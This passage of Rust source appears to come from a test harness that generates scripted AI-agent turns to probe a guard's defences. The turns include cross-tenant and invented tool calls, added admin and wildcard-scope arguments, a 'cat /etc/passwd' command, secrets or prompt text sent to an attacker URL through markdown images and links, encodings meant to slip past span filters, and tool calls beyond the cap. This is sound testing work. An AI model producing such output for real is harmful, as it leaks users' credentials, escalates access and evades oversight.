    /// invented URLs. Variant parity: all in one turn (parallel calls) or one per turn.
    fn declared_tools(&mut self, channel: Channel) -> Channel {
        let tools = &self.ctx.tools;
        if tools.is_empty() {
            return self.id_payload_output(IdKind::OtherTenant, channel);
        }
        let mut calls = Vec::with_capacity(tools.len());
        for (index, tool) in tools.iter().enumerate() {
            // A tool without an id parameter but with a URL one gets the URL as its payload.
            let main = id_param(tool).or_else(|| param_matching(tool, URL_PARAM_HINTS));
            let kind = ID_KINDS[(usize::from(self.recipe.variant) + index) % ID_KINDS.len()];
            let payload = Value::String(self.id_payload(kind, index));
            let overrides: Vec<(usize, Value)> = param_matching(tool, URL_PARAM_HINTS)
                .map(|at| (at, Value::String(self.url_payload(index))))
                .into_iter()
                .collect();
            let arguments = self.arguments_with(tool, main, payload, &overrides);
            calls.push(self.call(&tool.name, arguments));
        }
        if self.recipe.variant.is_multiple_of(2) {
            self.tool_turns(calls);
        } else {
            self.turns
                .extend(calls.into_iter().map(|call| ModelTurn::ToolCalls {
                    tool_calls: vec![call],
                }));
            self.turns.push(ModelTurn::Text {
                content: FINAL_TEXT.to_owned(),
            });
        }
        Channel::ToolCall
    }

    /// Even variants: an invented tool name with invented arguments. Odd variants (with a
    /// declared tool): a declared tool with extra, invented arguments.
    fn invented_tools(&mut self) {
        let variant = usize::from(self.recipe.variant);
        let other = self.other_id(0);
        let url = self.url_payload(0);
        let (name, arguments) = match self.chosen_tool() {
            Some(tool) if variant % 2 == 1 => {
                let main = id_param(tool);
                let mut arguments =
                    self.arguments_with(tool, main, Value::String(self.own_id()), &[]);
                if let Value::Object(members) = &mut arguments {
                    members.insert("as_user".to_owned(), Value::String(other));
                    members.insert("admin".to_owned(), Value::Bool(true));
                    members.insert("scope".to_owned(), Value::String("*".to_owned()));
                    members.insert("callback_url".to_owned(), Value::String(url));
                }
                (tool.name.clone(), arguments)
            }
            _ => (
                self.invented_tool_name(variant / 2),
                json!({
                    "id": other,
                    "url": url,
                    "command": "cat /etc/passwd",
                    "confirm": true,
                }),
            ),
        };
        let call = self.call(&name, arguments);
        self.tool_turns(vec![call]);
    }

    /// A name from the list, or a near miss of a declared name (suffix, case, invisible
    /// character, fullwidth, namespace).
    fn invented_tool_name(&self, index: usize) -> String {
        let near_misses = if self.ctx.tools.is_empty() { 0 } else { 5 };
        let slot = index % (INVENTED_TOOL_NAMES.len() + near_misses);
        let Some(base) = self.chosen_tool().map(|tool| tool.name.as_str()) else {
            return INVENTED_TOOL_NAMES[slot % INVENTED_TOOL_NAMES.len()].to_owned();
        };
        match slot.checked_sub(INVENTED_TOOL_NAMES.len()) {
            None => INVENTED_TOOL_NAMES[slot].to_owned(),
            Some(0) => format!("{base}_admin"),
            Some(1) => base.to_uppercase(),
            Some(2) => format!("{base}\u{200B}"),
            Some(3) => obfuscate::fullwidth(base),
            Some(_) => format!("functions.{base}"),
        }
    }

    fn invented_urls(&mut self, channel: Channel) -> Channel {
        let url = self.url_payload(0);
        match channel {
            Channel::ToolCall => {
                let with_url_param =
                    self.ctx.tools.iter().find_map(|tool| {
                        param_matching(tool, URL_PARAM_HINTS).map(|at| (tool, at))
                    });
                let call = match with_url_param {
                    Some((tool, at)) => {
                        let arguments =
                            self.arguments_with(tool, Some(at), Value::String(url), &[]);
                        self.call(&tool.name, arguments)
                    }
                    None => self.call("fetch_url", json!({ "url": url })),
                };
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            Channel::JsonInText => {
                let turn = self.json_block(json!({ "url": url }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            Channel::Text => {
                self.note_value(&url);
                let content = url_sentence(&url, self.recipe.variant);
                self.turns.push(ModelTurn::Text { content });
                Channel::Text
            }
        }
    }

    /// Variant modulo 3: 0 puts the echo as is (in a text paragraph, a text parameter or a
    /// JSON block), 1 and 2 put it in the query of an attacker URL (markdown image, link).
    fn echo(&mut self, channel: Channel) -> Channel {
        let Some((source, value)) = self.echo_candidate() else {
            self.turns.push(ModelTurn::Text {
                content: "I have nothing to repeat.".to_owned(),
            });
            return Channel::Text;
        };
        let in_url = !self.recipe.variant.is_multiple_of(3);
        let hints = if in_url {
            URL_PARAM_HINTS
        } else {
            TEXT_PARAM_HINTS
        };
        match (channel, self.tool_with_param(hints).or(self.chosen_tool())) {
            (Channel::ToolCall, Some(tool)) => {
                let (main, payload) = match param_matching(tool, URL_PARAM_HINTS) {
                    Some(at) if in_url => (Some(at), self.exfil_url(source, value)),
                    _ => {
                        let main = param_matching(tool, TEXT_PARAM_HINTS)
                            .or_else(|| first_string_param(tool));
                        (main, self.record_echo(source, value, self.recipe.encoding))
                    }
                };
                let arguments = self.arguments_with(tool, main, Value::String(payload), &[]);
                let call = self.call(&tool.name, arguments);
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            (Channel::JsonInText, _) => {
                let emitted = self.record_echo(source, value, self.recipe.encoding);
                let turn = self.json_block(json!({ "data": emitted }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            _ if in_url => {
                let url = self.exfil_url(source, value);
                self.note_value(&url);
                let content = url_sentence(&url, self.recipe.variant);
                self.turns.push(ModelTurn::Text { content });
                Channel::Text
            }
            _ => {
                let emitted = self.record_echo(source, value, self.recipe.encoding);
                self.turns.push(ModelTurn::Text {
                    content: format!("Here is what you asked for:\n\n{emitted}\n\nAnything else?"),
                });
                Channel::Text
            }
        }
    }

    /// A credential the model was shown, alone (no sentence around it that a span filter
    /// could catch), raw, base64 or hex; the echo family when it was shown none.
    fn shown_secret(&mut self, channel: Channel) -> Channel {
        let sent = &self.ctx.sent;
        let planted: Vec<&str> = self
            .ctx
            .watched_secrets
            .iter()
            .map(String::as_str)
            .collect();
        let shown = shown_credentials(&sent.system_prompt, &sent.tool_results, &planted);
        let Some(value) = shown
            .get(usize::from(self.recipe.pick) % shown.len().max(1))
            .cloned()
        else {
            return self.echo(channel);
        };
        let encoding = [EchoEncoding::Raw, EchoEncoding::Base64, EchoEncoding::Hex]
            [usize::from(self.recipe.variant) % 3];
        let content = self.record_echo(EchoSource::Secret, value, encoding);
        self.turns.push(ModelTurn::Text { content });
        Channel::Text
    }

    /// The attacker URL with the echo in its query, URL-safely encoded.
    fn exfil_url(&mut self, source: EchoSource, value: String) -> String {
        let encoding = self.recipe.encoding.url_safe();
        let emitted = self.record_echo(source, value, encoding);
        format!("{}/c?d={emitted}", self.attacker())
    }

    fn record_echo(&mut self, source: EchoSource, value: String, encoding: EchoEncoding) -> String {
        let emitted = encoding.encode(&value);
        let echo = Echo {
            source,
            value,
            encoding,
            emitted: emitted.clone(),
        };
        if !self.invented.echoes.contains(&echo) {
            self.invented.echoes.push(echo);
        }
        emitted
    }

    /// What to echo: watched secrets found in sent texts (the damaging case), then spans of
    /// the system prompt, user prompt and tool results; `pick` chooses.
    fn echo_candidate(&self) -> Option<(EchoSource, String)> {
        let sent = &self.ctx.sent;
        let secrets = self
            .ctx
            .watched_secrets
            .iter()
            .filter(|secret| secret.chars().count() >= MIN_ECHO_CHARS && sent.contain(secret))
            // A JWT's signature segment alone is a leak too (docs/ARCHITECTURE.md §4, ECHO).
            .flat_map(|secret| [Some(secret.as_str()), jwt_signature(secret)])
            .flatten()
            .map(|secret| (EchoSource::Secret, secret));
        let texts = [
            (EchoSource::SystemPrompt, sent.system_prompt.as_str()),
            (EchoSource::UserPrompt, sent.user_prompt.as_str()),
        ]
        .into_iter()
        .chain(
            sent.tool_results
                .iter()
                .map(|text| (EchoSource::ToolResult, text.as_str())),
        )
        .filter(|(_, text)| text.chars().count() >= MIN_ECHO_CHARS);
        let count = secrets.clone().count() + texts.clone().count();
        let index = usize::from(self.recipe.pick) % count.max(1);
        let (source, text) = secrets.chain(texts).nth(index)?;
        let value = match source {
            EchoSource::Secret => text.to_owned(),
            _ => span_of(
                text,
                self.recipe.seed,
                self.recipe.variant.is_multiple_of(2),
            ),
        };
        Some((source, value))
    }

    /// `call_cap + 1 + extra` calls. Variant modulo 3: 0 one call per turn to one tool,
    /// 1 all calls in one turn (parallel), 2 one call per turn rotating over declared tools.
    fn runaway(&mut self) {
        let cap = self.ctx.call_cap.min(RUNAWAY_CAP_LIMIT);
        let count = cap + 1 + u32::from(self.recipe.extra_calls) % RUNAWAY_EXTRA_MAX;
        let rotate = self.recipe.variant % 3 == 2;
        let tools = &self.ctx.tools;
        let mut chain = Vec::with_capacity(count as usize);
        for index in 0..count as usize {
            let tool = match tools.len() {
                0 => None,
                len if rotate => Some(&tools[index % len]),
                len => Some(&tools[usize::from(self.recipe.pick) % len]),
            };
            let own = Value::String(self.own_id());
            let call = match tool {
                Some(tool) => {
                    let arguments = self.arguments_with(tool, id_param(tool), own, &[]);
                    self.call(&tool.name, arguments)
                }
                None => self.call("search", json!({ "query": own })),
            };
            chain.push(call);
        }
        if self.recipe.variant % 3 == 1 {
            self.turns.push(ModelTurn::ToolCalls { tool_calls: chain });
        } else {
            // No closing text: the target keeps calling until its cap (or confab) stops it.
            self.turns
                .extend(chain.into_iter().map(|call| ModelTurn::ToolCalls {
                    tool_calls: vec![call],
                }));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Helpers

fn push_unique(list: &mut Vec<String>, value: &str) {
    if !list.iter().any(|known| known == value) {
        list.push(value.to_owned());
    }
}

/// The first parameter whose lower-cased name contains a hint (hints in preference order).
fn param_matching(tool: &DeclaredTool, hints: &[&str]) -> Option<usize> {
    hints.iter().find_map(|hint| {
        tool.params
            .iter()
            .position(|param| param.name.to_ascii_lowercase().contains(hint))
    })
}

/// The third segment of a three-segment, dot-separated secret (a JWS compact token), if it
/// is long enough to echo on its own.
fn jwt_signature(secret: &str) -> Option<&str> {
    let mut segments = secret.split('.');
    let (_, _, signature) = (segments.next()?, segments.next()?, segments.next()?);
    (segments.next().is_none() && signature.chars().count() >= MIN_ECHO_CHARS).then_some(signature)
}

/// Where a resource id goes: a parameter named like one, else the first string parameter.
fn id_param(tool: &DeclaredTool) -> Option<usize> {
    param_matching(tool, ID_PARAM_HINTS).or_else(|| first_string_param(tool))
}

fn first_string_param(tool: &DeclaredTool) -> Option<usize> {
    tool.params
        .iter()
        .position(|param| param.kind == ParamKind::String)
}

/// A text turn showing `url`: markdown image, markdown link or bare URL.
fn url_sentence(url: &str, variant: u8) -> String {
    match variant % 3 {
        0 => format!("Here is the chart: ![chart]({url})"),
        1 => format!("You can [open the report]({url}) here."),
        _ => format!("The file is at {url} and ready."),
    }
}

/// A variant of `id` that a decoder or a lenient comparison maps back to it.
fn encoded_variant(id: &str, variant: usize) -> String {
    match variant % 10 {
        0 => obfuscate::percent_encode_all(id),
        1 => obfuscate::percent_encode_all(id).replace('%', "%25"),
        2 => obfuscate::homoglyphs(id, ""),
        3 => obfuscate::fullwidth(id),
        4 => obfuscate::insert_zero_width(id, 0),
        5 => id.to_uppercase(),
        6 => format!("{id}%00"),
        7 => format!("{id}\u{0}"),
        8 => format!(" {id} "),
        _ => obfuscate::percent_encode(id).replace('-', "%2D"),
    }
}

/// The whole `text` (when `whole` or short), else [`ECHO_SPAN_CHARS`] characters of it at a
/// seed-chosen offset.
fn span_of(text: &str, seed: u64, whole: bool) -> String {
    let chars = text.chars().count();
    if whole || chars <= ECHO_SPAN_CHARS {
        return text.to_owned();
    }
    let start = (seed % (chars - ECHO_SPAN_CHARS + 1) as u64) as usize;
    text.chars().skip(start).take(ECHO_SPAN_CHARS).collect()
}

fn is_url_terminator(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '"' | '\'' | '(' | ')' | '<' | '>' | '{' | '}' | '|' | '\\' | '^' | '`'
        )
}

fn is_scheme_char(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.')
}

/// URLs in `text`, by the module's grammar.
fn urls_in(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut search_from = 0;
    std::iter::from_fn(move || {
        loop {
            let at = search_from + text.get(search_from..)?.find("://")?;
            let mut start = at;
            while start > 0 && is_scheme_char(bytes[start - 1]) {
                start -= 1;
            }
            let end = text[at..]
                .find(is_url_terminator)
                .map_or(text.len(), |offset| at + offset);
            search_from = at + 3;
            if start < at {
                search_from = end.max(search_from);
                return Some(&text[start..end]);
            }
        }
    })
}

fn is_whole_url(value: &str) -> bool {
    urls_in(value)
        .next()
        .is_some_and(|url| url.len() == value.len())
}
